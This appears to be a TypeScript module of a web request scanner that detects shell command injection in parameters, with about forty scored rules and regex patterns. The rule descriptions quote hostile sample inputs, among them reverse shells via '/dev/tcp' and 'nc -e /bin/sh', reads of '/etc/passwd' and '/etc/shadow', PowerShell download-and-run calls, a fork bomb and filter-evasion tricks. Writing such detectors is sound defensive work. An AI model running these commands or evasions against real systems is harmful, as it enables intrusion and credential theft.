/**
 * The `shell` family: operating-system command injection in a parameter.
 *
 * A value is read as a shell would read it (after `deobfuscateShell`), cut into simple commands, and
 * judged by structure: a separator or substitution followed by a command word and an argument shaped
 * like a command's. A command word alone is not enough when it is also English ("rock & roll; cat
 * lovers" passes), and prose rarely has the shapes that are: `;id`, `|wget http://`, `$(whoami)`.
 *
 * @internal
 */
import { type DetectionFamily, type FamilyFinding, findingOf, type RuleInfo, type ScanContext } from "../contract.js"
import { type ArgumentShape, forEachCommand, type SimpleCommand } from "./commandLine.js"
import { ATTACK_COMMANDS, INTERPRETERS, isCommand, POWERSHELL_WORDS, RARE_COMMANDS } from "./commands.js"
import {
  braceCommand,
  CHARACTER_PICK,
  CONSTANT_ARITHMETIC,
  FUNCTION_DEFINITION,
  HISTORY_EXPANSION,
  LEADING_SEPARATOR,
  SLEEP_PROBE,
  TILDE_DIRECTORY,
  TILDE_STACK,
  WINDOWS_SYSTEM_VARIABLE,
  withLeadingOpener
} from "./expansions.js"
import { markdownCode, withoutLinkTargets } from "./markdown.js"
import { deobfuscateShell } from "./normalize.js"
import { splitCommand, splitSystemPath } from "./splitWords.js"
import { executedVariable } from "./variables.js"

const rule = (id: string, paranoia: RuleInfo["paranoia"], score: number, description: string): RuleInfo => ({
  id,
  category: "cmd_injection",
  paranoia,
  score,
  description
})

export const SHELL_RULES = {
  chained: rule(
    "shell-001",
    1,
    5,
    "A command separator (`;` `|` `&` `&&` `||`, a line feed or a lone carriage return; a caret or `<` glued to the word opening the value) followed by a known command and an argument shaped like one (option, path, URL, host, redirection): `;cat /etc/passwd`, `| ping -n 30 127.0.0.1`"
  ),
  chainedRare: rule(
    "shell-002",
    1,
    5,
    "A separator followed by a command name that is not an English word (`whoami`, `ifconfig`, `id`), ending the value or followed by another separator (`;id;`, `| sh`), or a reconnaissance or download command with any argument (`& netsh firewall ...`)"
  ),
  substitution: rule(
    "shell-003",
    1,
    5,
    "Command substitution around a known command: `` `uname -a` ``, `$(curl ...)`, `$(echo x)` (with `$(`, any known command)"
  ),
  shellshock: rule("shell-004", 1, 5, "A Bash function definition `() {` starting a value (Shellshock, CVE-2014-6271)"),
  devTcp: rule("shell-005", 1, 5, "A redirection to `/dev/tcp/` or `/dev/udp/`: a reverse shell"),
  qualified: rule(
    "shell-006",
    1,
    5,
    "A known command written with its system directory: `/usr/bin/id`, `/bin/sh`, `c:\\windows\\system32\\cmd.exe`"
  ),
  globbed: rule("shell-007", 1, 5, "A command or system path written with glob wildcards: `/???/??t`, `/bin/c?t /et*/pa??wd`"),
  commandLine: rule(
    "shell-008",
    1,
    5,
    "A value that is a command line: a command name that is not an English word and an argument shaped like one (`nc -e /bin/sh 10.0.0.1 4444`, `ls -la /`)"
  ),
  commonCommandLine: rule(
    "shell-009",
    1,
    3,
    "A value that starts like a command line with a command that is also a word (`cat /etc/passwd`, `find / -name x`); needs another signal at level 1"
  ),
  powershell: rule(
    "shell-010",
    1,
    5,
    "A PowerShell cmdlet that downloads or runs code, with arguments: `iex (iwr http://...)`, `Invoke-WebRequest http://...`"
  ),
  cmdFor: rule("shell-011", 1, 5, "A cmd.exe `for /f %i in (...) do` loop"),
  ssi: rule("shell-012", 1, 5, "A server-side include directive: `<!--#exec cmd=...-->`, `<!--#include virtual=...-->`"),
  binaryPath: rule(
    "shell-014",
    1,
    5,
    "Any program under `/bin`, `/sbin`, `/usr/bin` or `/usr/local/bin` starting a word outside the request path: `/bin/busybox`, `/usr/sbin/xyz`"
  ),
  alias: rule("shell-013", 1, 5, "A shell alias definition, `alias name=command`, used to hide a command name"),
  braceCommand: rule(
    "shell-015",
    1,
    5,
    "A brace expansion that spells a command: glued to letters (`c{a,u}t`, `{l,-la}s`) or with an empty member (`{,ip,a}`)"
  ),
  tildeDirectory: rule("shell-016", 1, 5, "A tilde expansion of the working directory or directory stack: `~+`, `~-`, `~+2`, `cd ~-/x`"),
  windowsVariable: rule("shell-017", 1, 5, "A Windows environment variable naming a system folder or the interpreter: `%SYSTEMROOT%`, `%COMSPEC%`"),
  leadingSeparator: rule(
    "shell-018",
    1,
    5,
    "A value that starts with a command separator and holds one known command word: `;set`, `| who`, `&& ls`"
  ),
  probe: rule(
    "shell-019",
    1,
    5,
    "A value that is a time-based blind probe (`sleep 10`, `Start-Sleep -s 10`, `timeout /t 10`, `ping -n 10 127.0.0.1`), also between separators (`<sleep 10;`), or a history expansion of earlier commands (`!-1`, `!!`)"
  ),
  chainedRareWord: rule(
    "shell-020",
    2,
    5,
    "A separator followed by a command name that is not an English word and any argument (`; grep root`), or by a variable used as a command (`a=nc&&$a -l`)"
  ),
  substitutionSyntax: rule(
    "shell-021",
    2,
    5,
    "Any shell substitution syntax: `$(...)`, `${...}`, `<(...)`, `>(...)`"
  ),
  lone: rule("shell-022", 2, 5, "A value that is only the name of a reconnaissance or download command: `whoami`, `ifconfig`, `wget`"),
  commonCommandLine2: rule(
    "shell-023",
    2,
    2,
    "At level 2 a value that starts like a command line with a common command is refused by itself (adds to shell-009)"
  ),
  unknownQualified: rule("shell-024", 2, 5, "Any program under a system binary directory, also relative or in the request path: `bin/ansible`"),
  mailCommand: rule(
    "shell-025",
    2,
    5,
    "An SMTP, POP3 or IMAP command after a line break (`\\r\\nRCPT TO:<...>`, `\\r\\na001 LOGIN ...`): injection into a mail session"
  ),
  tildeStack: rule("shell-026", 2, 5, "A value that is only a directory-stack index: `~0`, `~2`"),
  functionDefinition: rule("shell-027", 2, 5, "A Bash function defined and called in one value, as a fork bomb is: `:(){ :|:& };:`"),
  ifsSeparator: rule(
    "shell-031",
    1,
    5,
    "`$IFS` or `${IFS}` glued to a word, written for the space a filter would refuse: `cat${IFS}/etc/passwd`, `echo$IFS$9x`"
  ),
  escapedCommand: rule(
    "shell-032",
    1,
    5,
    "A value that starts with a backslash-escaped command name, which only a shell reads (it skips aliases): `\\ls`, `\\cat x`"
  ),
  commandOption: rule(
    "shell-033",
    1,
    2,
    "A value that starts with a command that is also a word and a long option (`perf --version`, `find --help`); adds to shell-009"
  ),
  variableCommand: rule(
    "shell-034",
    1,
    5,
    "A value that assigns a command to a variable and runs the variable (`x=$'uname -a';$x`, `set a=whoami&&call %a%`), or runs a word of variables it assigned (`a=who;b=ami;$a$b`, `!a!!b!`)"
  ),
  characterPick: rule(
    "shell-035",
    1,
    5,
    "One character picked out of a variable to build a command name letter by letter: `%COMSPEC:~-7,1%`, `${PATH:5:1}`"
  ),
  mailSession: rule(
    "shell-038",
    2,
    5,
    "A mail session command on a line of its own after a line break, as a client writes it: `\\r\\nRCPT TO: <a@example.com>`, `\\r\\nA1 FETCH 1`, `\\r\\nQUIT`"
  ),
  hereString: rule(
    "shell-039",
    1,
    5,
    "A here-string fed to the shell itself, which runs it as a script: `$0<<<$'\\151\\144'`, `;bash <<< \"id\"`"
  ),
  arithmetic: rule("shell-037", 1, 5, "Arithmetic of constants, which prints a known number to prove a shell ran: `echo X$((40+2))X`, `$((7))`"),
  splitCommand: rule(
    "shell-036",
    1,
    5,
    "A command name split by characters the shell drops, where a command starts: `'wh'oami`, `\"w\"get x`, `c^m^d /c ver`, `cu$@rl x`, `c\"a\"t x`"
  ),
  splitPath: rule(
    "shell-040",
    1,
    5,
    "A system path split by quotes the shell drops, written for a filter that looks for the path: `cat /etc/pa'ss'wd`, `/e\"\"tc/shadow`, `\"/et\"c/passwd`, `/etc/'shadow'`"
  ),
  chainedCommonWord: rule(
    "shell-030",
    3,
    5,
    "A separator followed by any known command, even one that is an English word, with any argument: `; time who`, `|vi (x`"
  )
} as const

/** Arguments a command line has and prose does not. */
const STRONG_ARGUMENTS: ReadonlySet<ArgumentShape> = new Set(["option", "path", "url", "dotted", "redirect", "variable", "glob"])

/** Commands whose usual argument is a number: `sleep 5`, `ping 10.0.0.1`, `kill 1`. */
const NUMERIC_COMMANDS = new Set(["sleep", "usleep", "start-sleep", "ping", "ping6", "timeout", "kill", "head", "tail", "nc", "ncat"])

/**
 * `sleep 8 hours`, `ping 3 friends`: a count followed by a plain word is a sentence; the command
 * would reject the word and never run, so the number is no command line's argument there.
 */
const strongArgument = (command: SimpleCommand): boolean =>
  STRONG_ARGUMENTS.has(command.argument) ||
  (command.argument === "number" && NUMERIC_COMMANDS.has(command.name) && !command.endsInWord)

const endsCommand = (command: SimpleCommand): boolean => command.argument === "end"

const SHELLSHOCK = /^\s{0,16}\(\s{0,8}\)\s{0,8}\{|\(\s{0,8}\)\s{0,8}\{\s{0,8}:\s{0,8};/
const SSI = /<!--\s{0,8}#\s{0,8}(?:exec|include|echo|printenv|config|set|fsize|flastmod)\b/
const ALIAS = /(?:^|[;&|\n`(]\s{0,8})alias\s{1,8}(?:[-+][a-z+]{1,8}\s{1,8}){0,3}[a-z0-9_-]{1,32}=\S/
const CMD_FOR = /\bfor\s{1,8}(?:\/[a-z]\s{1,8}(?:[^\s%]{1,64}\s{1,8})?)?%%?[a-z][a-z0-9_]{0,30}\s{1,8}in\s{0,8}\(/
const SUBSTITUTION_SYNTAX = /\$\{[^}\s]{1,64}\}|\$\([^)\n]{1,64}\)|[<>]\([^)\n]{1,64}\)/
const SYSTEM_PATH = /(?<![^\s=:,;|&(`])(?:\/usr(?:\/local)?)?\/s?bin\/[a-z0-9_+-]{1,32}/
const RELATIVE_SYSTEM_PATH = /(?<![^\s=:,;|&(`])s?bin\/[a-z][a-z0-9_+-]{1,31}/
/**
 * Each alternative starts at a `/` (a look-behind, not a consumed character), so the search skips to
 * slashes. A segment after a glob or a name is relative (`lib/?/[a-z].js`, `a/[bdf]/?/x`): a file
 * pattern, not a system path; `./` and `../` can still reach one.
 */
const GLOB_PATH = /(?<![a-z0-9\]*?}_-])\/[a-z?*[\]]{0,8}[?*][a-z?*[\]]{0,8}\/[a-z0-9?*[\]._-]{0,16}[?*[]|\/(?:etc|bin|usr|proc|dev|tmp|var)\/[a-z0-9._-]{0,16}[?*[][a-z0-9?*[\]._-]{0,16}/
/** A piece of every cmdlet in `POWERSHELL_WORDS`: the call pattern runs only on values that have one. */
const POWERSHELL_GATE = /i(?:ex|wr|rm|wmi)|-object|invoke-|start-|mppreference/
const POWERSHELL_CALL = /(?:^|[^a-z0-9-])([a-z]{3,9}(?:-[a-z]{3,20})?)(?:\s{0,4}\(|\s{1,4}(?:-[a-z]|https?:|\$|\(|[a-z]:\\|\\\\))/g

/** `$IFS` / `${IFS}` with a word character or a slash on either side: the separator a filter misses. */
const IFS_GLUED = /[a-z0-9_/'"]\$\{?ifs\b|\$\{?ifs\}?(?:\$\d)?[a-z0-9_/.'"-]/i
/** A backslash, then a command name: `\\ls`, `\\cat /x`. A Windows path (`\\dir\\x`) goes on with a separator. */
/**
 * Commands that act with no argument at all: alone on a line after a break they stop the machine, and
 * a line of prose is rarely the one word `reboot`.
 */
const DESTRUCTIVE_ALONE: ReadonlySet<string> = new Set(["reboot", "halt", "poweroff", "shutdown"])

const ESCAPED_COMMAND = /^\s{0,4}\\([a-z][a-z0-9_-]{1,31})(?=\s|$|[;|&])/i

/**
 * The commands only as a mail client writes them: an envelope command with an address, an
 * IMAP command in capitals after a tag holding a digit (`A1 LOGIN`, `V100 CAPABILITY`), or `QUIT` or
 * `LOGOUT` alone on its line. A line of a message (`List 3 items`, `Select one:`) has none of these.
 */
const MAIL_SESSION = /(?:^|\n)[ \t]{0,4}(?:(?:[Mm][Aa][Ii][Ll][ \t]{1,4}[Ff][Rr][Oo][Mm]|[Rr][Cc][Pp][Tt][ \t]{1,4}[Tt][Oo]):[ \t]{0,4}<?[^\s@<>]{1,64}@|[A-Za-z]{0,4}\d{1,6}[ \t]{1,4}(?:CAPABILITY|LOGIN|FETCH|SELECT|EXAMINE|STORE|APPEND|AUTHENTICATE|STARTTLS|LOGOUT|UID)\b|(?:QUIT|LOGOUT)[ \t]{0,4}\r?(?:\n|$))/

/**
 * A here-string into the shell: `$0` (the shell running the injected line) or a shell named where a
 * command starts. `grep x <<< "$var"` in a snippet feeds another program.
 */
const HERE_STRING = /(?:\$0|\$\{0\}|(?:^|[;&|\n(`])[ \t]{0,4}(?:ba|z|k|da)?sh)[ \t]{0,4}<<</

/** SMTP, POP3 and IMAP commands after a line break: injection into a mail session the server opens. */
const MAIL_COMMAND =
  /(?:^|\n)[ \t]{0,4}(?:mail[ \t]{1,4}from:|rcpt[ \t]{1,4}to:|ehlo[ \t]|helo[ \t]|retr[ \t]{1,4}\d|apop[ \t]|auth[ \t]{1,4}\S|top[ \t]{1,4}\d{1,6}[ \t]{1,4}\d|list[ \t]{1,4}\d|dele[ \t]{1,4}\d|[a-z0-9]{1,8}[ \t]{1,4}(?:authenticate|status|select|append|fetch|uid|login|examine|capability|starttls)\b)/i

/**
 * What every rule needs one of: a character a shell gives meaning to, an option, a prefix or probe
 * command opening the value, or a word split by quotes (`'wh'oami`, `c"a"t`; not `don't`).
 */
const CHARS_OF_INTEREST =
  /[;|&\n\r\v\f^`$(){}<>/\\*?=%~!]| --?[a-z]|^\s{0,4}(?:u?sleep|time|nohup|nice|sudo|env|timeout|exec|strace|busybox|doas|start-sleep)\s|['"][a-z0-9]{0,8}['"][a-z]/i

/**
 * `for(var g=0;g<n;g++)`: a command name that is also code's increment of a one-letter variable
 * (`g++`), with nothing after it, is the increment; the compiler needs its source files.
 */
const isIncrement = (command: SimpleCommand): boolean => command.argument === "end" && command.name.endsWith("++")

/** A word written from the root of a file system: `/bin/sh`, `C:\\x.exe`, `\\\\host\\x`. */
const ABSOLUTE = /^(?:[/\\]|[a-z]:\\)/

const chainedFinding = (command: SimpleCommand, paranoia: number): RuleInfo | undefined => {
  if (command.opener === "start" || command.opener === "literal" || isIncrement(command)) return undefined
  const strong = strongArgument(command)
  if (command.opener === "substitution" && (command.rare || (command.common && (strong || command.dollar)))) {
    return SHELL_RULES.substitution
  }
  if ((command.rare || command.common) && strong) return SHELL_RULES.chained
  // a function call's argument naming a command (`console.log(id)`, `x('ls')`) is code, not a
  // subshell; a program written with its path is what `exec("/bin/sh")` hands to the system
  if (command.opener === "call" && !ABSOLUTE.test(command.text)) return undefined
  if (command.rare && (endsCommand(command) || ATTACK_COMMANDS.has(command.name))) return SHELL_RULES.chainedRare
  if (paranoia >= 2 && (command.rare || (command.variable && strong))) return SHELL_RULES.chainedRareWord
  if (paranoia >= 3 && command.common && command.opener === "separator") return SHELL_RULES.chainedCommonWord
  return undefined
}

const startFindings = (command: SimpleCommand, paranoia: number): ReadonlyArray<RuleInfo> => {
  if (command.opener !== "start") return []
  const strong = strongArgument(command) && command.argument !== "dotted" && !command.endsInWord
  const interpreted = INTERPRETERS.has(command.name) && command.argument === "option"
  const chainedOn = command.rare && command.argument === "end" && !command.alone
  if (command.rare && (strong || interpreted || chainedOn || command.prefixed)) return [SHELL_RULES.commandLine]
  if (command.common && strong) {
    const found = paranoia >= 2 ? [SHELL_RULES.commonCommandLine, SHELL_RULES.commonCommandLine2] : [SHELL_RULES.commonCommandLine]
    return command.longOption ? [...found, SHELL_RULES.commandOption] : found
  }
  if (paranoia >= 2 && command.alone && ATTACK_COMMANDS.has(command.name)) return [SHELL_RULES.lone]
  if (paranoia >= 3 && command.prefixed) return [SHELL_RULES.chainedCommonWord]
  return []
}

/**
 * A literal `\\n` at the start, after a separator or at the end: an application that unescapes its
 * input turns it into the newline that ends a command (`\\nid\\n`). Inside a word (`C:\\new`) it stays.
 */
const LITERAL_NEWLINE = /^\s{0,4}\\n|[;|&]\s{0,4}\\n|\\n\s{0,4}$/
const LITERAL_NEWLINES = /\\n/g

const scan = (raw: string, context: ScanContext): ReadonlyArray<FamilyFinding> => {
  const value = withoutLinkTargets(raw)
  if (!value.includes("`")) return scanLines(value, context)
  // Markdown code in prose is read as code, not as substitution: fence lines are dropped, and each
  // inline code span is read as a value of its own (`ls -la` there is a command line, not `;ls -la`).
  const { prose, spans } = markdownCode(value)
  if (spans.length === 0) return scanLines(prose, context)
  const fired = new Map<string, FamilyFinding>()
  for (const finding of scanLines(prose, context)) fired.set(finding.ruleId, finding)
  for (const span of spans) {
    for (const finding of scanLines(span, context)) {
      if (!WHOLE_VALUE_RULES.has(finding.ruleId) && !fired.has(finding.ruleId)) fired.set(finding.ruleId, finding)
    }
  }
  return [...fired.values()]
}

/**
 * Rules that judge a value by being nothing but a command line (`ls -la`, `sleep 10`, `whoami`). A
 * code span in a sentence is a command line by design: only what is dangerous inside it counts
 * (substitutions, chained commands, system binaries, `/dev/tcp`).
 */
const WHOLE_VALUE_RULES: ReadonlySet<string> = new Set(
  [
    SHELL_RULES.commandLine,
    SHELL_RULES.commonCommandLine,
    SHELL_RULES.commonCommandLine2,
    SHELL_RULES.commandOption,
    SHELL_RULES.lone,
    SHELL_RULES.probe,
    SHELL_RULES.escapedCommand
  ].map((found) => found.id)
)

const scanLines = (value: string, context: ScanContext): ReadonlyArray<FamilyFinding> => {
  const direct = scanValue(value, context)
  if (!value.includes("\\n") || !LITERAL_NEWLINE.test(value)) return direct
  const unescaped = scanValue(value.replace(LITERAL_NEWLINES, "\n"), context)
  const seen = new Set(direct.map((finding) => finding.ruleId))
  return [...direct, ...unescaped.filter((finding) => !seen.has(finding.ruleId))]
}

const scanValue = (value: string, context: ScanContext): ReadonlyArray<FamilyFinding> => {
  const paranoia = context.paranoia
  const fired = new Map<string, FamilyFinding>()
  const fire = (found: RuleInfo, message: string) => {
    if (found.paranoia <= paranoia && !fired.has(found.id)) fired.set(found.id, findingOf(found, message))
  }
  // `^whoami`, `<id`, `\rid`: an opener that is no separator of `;` `|` `&` is read as one.
  const text = withLeadingOpener(value, deobfuscateShell(value))
  forEachCommand(text, (command) => {
    const chained = chainedFinding(command, paranoia)
    if (chained !== undefined) fire(chained, `command after a separator: ${command.text}`)
    for (const found of startFindings(command, paranoia)) fire(found, `command line: ${command.text}`)
    if (command.qualified && (command.rare || command.common)) fire(SHELL_RULES.qualified, `system command: ${command.text}`)
    if (command.globbed) fire(SHELL_RULES.globbed, `globbed command: ${command.text}`)
  })
  if (value.includes("(") && SHELLSHOCK.test(value)) fire(SHELL_RULES.shellshock, "bash function definition")
  if (value.includes("<<<")) {
    const here = HERE_STRING.exec(value)
    if (here !== null) fire(SHELL_RULES.hereString, `here-string into a shell: ${here[0].trim()}`)
  }
  if (text.includes("/dev/tcp/") || text.includes("/dev/udp/")) fire(SHELL_RULES.devTcp, "redirection to /dev/tcp")
  if (text.includes("<!--")) {
    const ssi = SSI.exec(text)
    if (ssi !== null) fire(SHELL_RULES.ssi, `server-side include: ${ssi[0]}`)
  }
  if (text.includes("alias") && ALIAS.test(text)) fire(SHELL_RULES.alias, "alias definition")
  if (text.includes("%") && text.includes("for") && CMD_FOR.test(text)) fire(SHELL_RULES.cmdFor, "cmd.exe for loop")
  // every match has a `/` and one of `?*[`
  const glob = text.includes("/") && (text.includes("?") || text.includes("*") || text.includes("[")) ? GLOB_PATH.exec(text) : null
  if (glob !== null) fire(SHELL_RULES.globbed, `globbed path: ${glob[0]}`)
  if ((text.includes("-") || text.includes("i")) && POWERSHELL_GATE.test(text)) {
    for (const match of text.matchAll(POWERSHELL_CALL)) {
      if (POWERSHELL_WORDS.has(match[1] ?? "")) {
        fire(SHELL_RULES.powershell, `powershell: ${match[0].trim()}`)
        break
      }
    }
  }
  if (context.location !== "path" && text.includes("bin/")) {
    const systemPath = SYSTEM_PATH.exec(text)
    if (systemPath !== null) fire(SHELL_RULES.binaryPath, `system binary: ${systemPath[0].trim()}`)
  }
  if (value.includes("{")) {
    const spelled = braceCommand(value)
    if (spelled !== undefined) fire(SHELL_RULES.braceCommand, `brace expansion spelling ${spelled}`)
    if (paranoia >= 2 && FUNCTION_DEFINITION.test(value)) fire(SHELL_RULES.functionDefinition, "bash function defined and called")
  }
  if (value.includes("~")) {
    if (TILDE_DIRECTORY.test(value)) fire(SHELL_RULES.tildeDirectory, "tilde directory expansion")
    if (paranoia >= 2 && TILDE_STACK.test(value)) fire(SHELL_RULES.tildeStack, "directory stack index")
  }
  if (value.includes("%")) {
    const variable = WINDOWS_SYSTEM_VARIABLE.exec(value)
    if (variable !== null) fire(SHELL_RULES.windowsVariable, `windows system variable: ${variable[0]}`)
  }
  if (value.includes("IFS") || value.includes("ifs")) {
    const ifs = IFS_GLUED.exec(value)
    if (ifs !== null) fire(SHELL_RULES.ifsSeparator, `IFS as a separator: ${ifs[0]}`)
  }
  if (value.includes("\\")) {
    const escaped = ESCAPED_COMMAND.exec(value)
    const name = (escaped?.[1] ?? "").toLowerCase()
    // A word that is also English counts only alone: `\\nice day` may be an unescaped line break.
    if (escaped !== null && (RARE_COMMANDS.has(name) || (isCommand(name) && escaped[0].trim() === value.trim()))) fire(SHELL_RULES.escapedCommand, `escaped command: ${escaped[0].trim()}`)
  }
  const leading = LEADING_SEPARATOR.exec(value)
  const word = (leading?.[2] ?? "").toLowerCase()
  if (leading !== null && (leading[1] === "\n" ? RARE_COMMANDS.has(word) || DESTRUCTIVE_ALONE.has(word) : isCommand(word))) fire(SHELL_RULES.leadingSeparator, `separator then ${leading[2]}`)
  if (SLEEP_PROBE.test(text) || (value.includes("!") && HISTORY_EXPANSION.test(value))) fire(SHELL_RULES.probe, `probe: ${value}`)
  if (value.includes("$") || value.includes("%") || value.includes("!")) {
    const variable = executedVariable(value)
    if (variable !== undefined) fire(SHELL_RULES.variableCommand, `variable run as a command: ${variable}`)
    const picked = value.includes(":~") || value.includes("${") ? CHARACTER_PICK.exec(value) : null
    if (picked !== null) fire(SHELL_RULES.characterPick, `character picked from a variable: ${picked[0]}`)
    const arithmetic = value.includes("$((") ? CONSTANT_ARITHMETIC.exec(value) : null
    if (arithmetic !== null) fire(SHELL_RULES.arithmetic, `arithmetic of constants: ${arithmetic[0]}`)
  }
  const split = splitCommand(value)
  if (split !== undefined) fire(SHELL_RULES.splitCommand, `command name split: ${split}`)
  const splitPath = splitSystemPath(value)
  if (splitPath !== undefined) fire(SHELL_RULES.splitPath, `system path split: ${splitPath}`)
  // level 2: a message's own lines end with `QUIT` or start with an IMAP-shaped tag often enough
  if (paranoia >= 2 && value.includes("\n")) {
    const session = MAIL_SESSION.exec(value)
    if (session !== null) fire(SHELL_RULES.mailSession, `mail session command: ${session[0].trim()}`)
  }
  if (paranoia >= 2 && value.includes("\n")) {
    const mail = MAIL_COMMAND.exec(value)
    if (mail !== null) fire(SHELL_RULES.mailCommand, `mail protocol command: ${mail[0].trim()}`)
  }
  if (paranoia >= 2) {
    const substitution = value.includes(")") || value.includes("}") ? SUBSTITUTION_SYNTAX.exec(value) : null
    if (substitution !== null) fire(SHELL_RULES.substitutionSyntax, `substitution: ${substitution[0]}`)
    const systemPath = SYSTEM_PATH.exec(text) ?? RELATIVE_SYSTEM_PATH.exec(text)
    if (systemPath !== null) fire(SHELL_RULES.unknownQualified, `system path: ${systemPath[0].trim()}`)
  }
  return [...fired.values()]
}

export const family: DetectionFamily = {
  name: "shell",
  rules: Object.values(SHELL_RULES),
  mayMatch: (value) =>
    CHARS_OF_INTEREST.test(value) || (value.length <= 16 && ATTACK_COMMANDS.has(value.toLowerCase())),
  scan
}
